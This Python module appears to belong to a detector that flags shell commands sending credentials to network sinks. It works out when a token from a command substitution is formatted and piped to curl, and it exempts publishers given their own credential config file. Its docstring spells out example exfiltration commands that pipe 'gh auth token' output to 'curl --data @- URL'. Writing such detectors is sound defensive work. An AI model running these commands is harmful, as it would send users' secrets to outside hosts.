"""Round 17 (t1u, issue 25): a credential producer's output FORMATTED on its way to a sink.

``printf '{"t":"%s"}' "$(gh auth token)" | curl --data @- URL``: the producer runs in a substitution of a command
earlier in the sink's pipeline; that command's words are built from the credential and piped into the sink, as
``gh auth token | curl --data @- URL`` pipes it directly (round 13). A substitution whose output is no credential
(``printf 'done %s' "$(date)" | curl …``) stays open: only a source ``reads_secret`` names counts.

Not covered: a credential stored in a variable first and formatted in a later command of another pipeline
(``t=$(gh auth token); printf … "$t" | curl``) is judged by the variable taint of round 10, not here.
"""
from __future__ import annotations

from evaluation.verdicts.tier1.options import option_values
from evaluation.verdicts.tier1.scene_model import Scene, View
from evaluation.verdicts.tier1.shell_words import SimpleCommand


def formatted_upstream(scene: Scene, command: SimpleCommand) -> bool:
    """A command earlier in ``command``'s pipeline whose words are built by a substitution (``printf … "$(…)"``)."""
    return command.pipeline_pos > 0 and any(
        v.command.pipeline_id == command.pipeline_id and v.command.pipeline_pos < command.pipeline_pos
        and v.command.context != "substitution" and (bool(v.command.dynamic) or any("…" in a for a in v.command.argv))
        for v in scene.views)


# a publisher given its own credential file as its configuration: the file's token goes to the registry it names
_OWN_CONFIG = {"twine": ("--config-file",), "npm": ("--userconfig",), "pnpm": ("--userconfig",),
               "yarn": ("--userconfig",), "dotnet": ("--configfile",), "nuget": ("-ConfigFile", "--configfile"),
               "mvn": ("-s", "--settings"), "flit": ("--pypirc",), "hatch": ("--config",)}


def own_config(view: View, source: str) -> bool:
    """Round 17 (t1u): ``twine upload --config-file ~/.pypirc dist/*``: the credential file read by ``view``, the
    sink, is its own configuration option's value, not a payload."""
    options = _OWN_CONFIG.get(view.command.program)
    return options is not None and source in option_values(view.command.argv, options)
